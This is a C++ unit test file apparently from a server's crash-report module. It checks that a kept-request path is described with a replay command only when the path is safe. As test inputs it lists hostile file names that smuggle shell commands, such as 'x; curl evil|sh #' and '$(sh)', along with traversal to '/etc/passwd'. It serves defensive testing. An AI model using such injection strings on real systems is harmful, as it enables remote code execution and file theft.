#include "server/arbiter/report/kept_request.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <string_view>

namespace alicorn {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

/// What the master says if the worker claims to have kept a request under this name.
std::string said_of(std::string_view path) {
  Config config;
  config.worker.app_path = "/srv/app.so";
  config.worker.crash.directory = "/var/crashes";
  KeptRequest kept;
  std::copy_n(path.begin(), std::min(path.size(), sizeof kept.path), kept.path);
  kept.outcome = KeptRequest::Outcome::kKept;
  return describe_kept_request(kept, config);
}

TEST(KeptRequest, IsNamedWithTheCommandThatRunsItAgain) {
  const std::string path = "/var/crashes/20261126T190215-4711-a_B.c-9.http";
  EXPECT_EQ(said_of(path), "the request that crashed it is kept as " + path +
                               "; run it again, alone: alicorn replay " + path + " /srv/app.so");
}

/// The worker can write anything into this memory, and an operator pastes what the log says.
TEST(KeptRequest, IsNoCommandOfTheWorkers) {
  for (const std::string path :
       {"x; curl evil|sh #", "/var/crashes/a;sh", "/var/crashes/$(sh)", "/var/crashes/a b",
        "/var/crashes/a\nb", "/var/crashes/../passwd", "/var/crashes/..", "/var/crashes/",
        "/var/crashes/\xc3\x9c", "/var/crashesa", "/etc/passwd", "--help", ""}) {
    EXPECT_THAT(said_of(path),
                AllOf(HasSubstr("may be kept in /var/crashes"), Not(HasSubstr("replay"))))
        << path;
  }
  EXPECT_THAT(said_of("/var/crashes/" + std::string(1000, 'a')),
              HasSubstr("is kept as /var/crashes/aaa"))
      << "not beyond its array";
}

}  // namespace
}  // namespace alicorn
